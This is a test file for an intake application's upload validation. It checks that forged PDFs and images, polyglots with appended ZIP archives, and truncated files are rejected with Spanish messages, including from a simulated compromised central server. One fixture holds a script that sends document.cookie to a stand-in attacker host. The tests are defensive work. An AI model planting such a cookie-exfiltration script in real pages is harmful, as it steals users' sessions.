// The type of a scan used to be judged by its first bytes only: `%PDF-1.4` followed by a web page,
// or a JPEG's magic number followed by a ZIP archive, was stored as a PDF or a JPG. Now the whole
// file is read as what it claims to be, and nothing may follow its end. At the counter the clerk
// gets a Spanish message and nothing is stored; from central the virtual request is recorded as a
// conflict and nothing is stored.
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Auth } from '../../../electron/core/registry';
import { TINY_JPEG, TINY_PNG } from '../../support/images';
import { REPRESENTATIVE_SIGNER, scanPdf, signedPdf, VIRTUAL_INTAKE } from '../../support/virtual-scans';
import type { TestDesk } from '../../support/desk';
import { central, enrolledDesk, FAST, syncUntilClean, type Central } from '../sync/support';

const CLERK: Auth = { kind: 'cli', username: 'ventanilla1' };
const HTML = Buffer.from('<html><body><script>fetch("https://atacante.example/?c=" + document.cookie)</script></body></html>\n');
const ZIP = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(60, 0x41), Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)]);
let c: Central;
let desk: TestDesk;
let requestId = '';
let pdf: Buffer;
beforeAll(async () => {
  c = await central();
  desk = await enrolledDesk(c, { requests: 5 });
  const code = (desk.core.ctx.db.$client.prepare("SELECT confirmation_code AS c FROM appointments WHERE agency_id = 'agency-uio' ORDER BY time LIMIT 1").get() as { c: string }).c;
  const r = await desk.core.call('appointments.checkIn', { query: code }, CLERK);
  if (!r.ok) throw new Error(r.error.message);
  requestId = (r.value as { requestId: string }).requestId;
  pdf = await scanPdf('Registro Único de Contribuyentes', ['RUC 1792060346001']);
});
afterAll(async () => {
  desk.dispose();
  await c.dispose();
});

const add = (fileName: string, data: Buffer) => desk.core.call('attachments.add', { requestId, documentType: 'ruc', fileName, dataBase64: data.toString('base64') }, CLERK);
const stored = () => ({
  rows: (desk.core.ctx.db.$client.prepare('SELECT count(*) AS n FROM attachments').get() as { n: number }).n,
  files: fs.existsSync(path.join(desk.dataDir, 'adjuntos')) ? fs.readdirSync(path.join(desk.dataDir, 'adjuntos')).length : 0,
});

describe('a scan is read whole as what it claims to be', () => {
  const forged: [string, () => Buffer, RegExp][] = [
    ['%PDF-1.4 followed by a web page', () => Buffer.concat([Buffer.from('%PDF-1.4\n'), HTML]), /^El archivo empieza como un PDF, pero no lo es \(no tiene el final de un PDF/],
    ['%PDF-1.4, a web page and a %%EOF', () => Buffer.concat([Buffer.from('%PDF-1.4\n'), HTML, Buffer.from('%%EOF\n')]), /^El archivo empieza como un PDF, pero no lo es \(su estructura no se puede leer\)/],
    ['a real PDF with a web page after its end', () => Buffer.concat([pdf, HTML]), /PDF, pero no lo es \(tiene datos añadidos después del final del PDF\)/],
    ['a JPEG magic number followed by a ZIP archive', () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), ZIP]), /^El archivo empieza como un JPG, pero no lo es/],
    ['a real JPEG with a ZIP archive appended (polyglot)', () => Buffer.concat([TINY_JPEG, ZIP]), /JPG, pero no lo es \(tiene datos añadidos después del final de la imagen\)/],
    ['a JPEG cut short', () => TINY_JPEG.subarray(0, TINY_JPEG.length - 40), /JPG, pero no lo es \(está incompleto\)/],
    ['a PNG with a ZIP archive appended', () => Buffer.concat([TINY_PNG, ZIP]), /PNG, pero no lo es \(tiene datos añadidos/],
    ['a PNG whose image data was altered', () => Buffer.from(TINY_PNG.toString('hex').replace('7801633851a1', '7801633852a1'), 'hex'), /PNG, pero no lo es \(su contenido está dañado\)/],
  ];
  it.each(forged)('refuses %s at the counter, storing nothing', async (_what, make, message) => {
    const before = stored();
    const r = await add('documento.pdf', make());
    expect(r).toMatchObject({ ok: false, error: { code: 'invalid_input', message: expect.stringMatching(message) } });
    expect(stored()).toEqual(before);
  });

  it('takes real scans: a PDF, a PAdES-signed PDF (incremental update), a JPEG, a JPEG with a second image after it, a PNG', async () => {
    const signed = await signedPdf('Solicitud de entrega de clave', ['Empleador: Comercial Andina Cía. Ltda.'], REPRESENTATIVE_SIGNER, desk.dataDir);
    for (const [name, data] of [['ruc.pdf', pdf], ['firmado.pdf', signed], ['cedula.jpg', TINY_JPEG], ['mpf.jpg', Buffer.concat([TINY_JPEG, TINY_JPEG])], ['cedula.png', TINY_PNG]] as const) {
      expect(await add(name, data), name).toMatchObject({ ok: true });
    }
  });

  it('a virtual request whose scan only starts like a PDF is recorded as a conflict, nothing stored', async () => {
    const fake = Buffer.concat([Buffer.from('%PDF-1.4\n'), HTML, Buffer.from('%%EOF\n')]);
    const before = stored();
    // `unchecked`: central skips its own checks, as a compromised central would.
    const v = await c.admin.virtual({ agencyCode: 'UIO', intake: VIRTUAL_INTAKE, unchecked: true, attachments: [{ documentType: 'ruc', fileName: 'ruc.pdf', mime: 'application/pdf', dataBase64: fake.toString('base64') }] });
    expect(createHash('sha256').update(fake).digest('hex')).toMatch(/^[0-9a-f]{64}$/);
    await syncUntilClean(desk, FAST, 20);
    expect(desk.core.ctx.db.$client.prepare('SELECT count(*) AS n FROM requests WHERE id = ?').get(v.requestId)).toEqual({ n: 0 });
    expect(stored()).toEqual(before);
    const conflict = desk.core.ctx.db.$client.prepare('SELECT reason FROM sync_conflicts ORDER BY id DESC LIMIT 1').get() as { reason: string };
    expect(conflict.reason).toBe(`${v.number}: el adjunto «ruc.pdf» no es un PDF válido: su estructura no se puede leer; la solicitud virtual no se registró.`);
  });
});

describe('the scan check is loaded before the first clerk needs it', () => {
  it('the warm-up the services run at start reads its document through pdf.js to the last page', async () => {
    const { warmUpScanInspection } = await import('../../../electron/core/counter/attachments/content');
    const { scanWarmUpService } = await import('../../../electron/core/counter/services');
    expect(await warmUpScanInspection()).toEqual({ loaded: true });
    expect(scanWarmUpService.firstRunAfterMs).toBe(0);
    expect(await scanWarmUpService.run(desk.core.ctx)).toEqual({ loaded: true });
  });
});
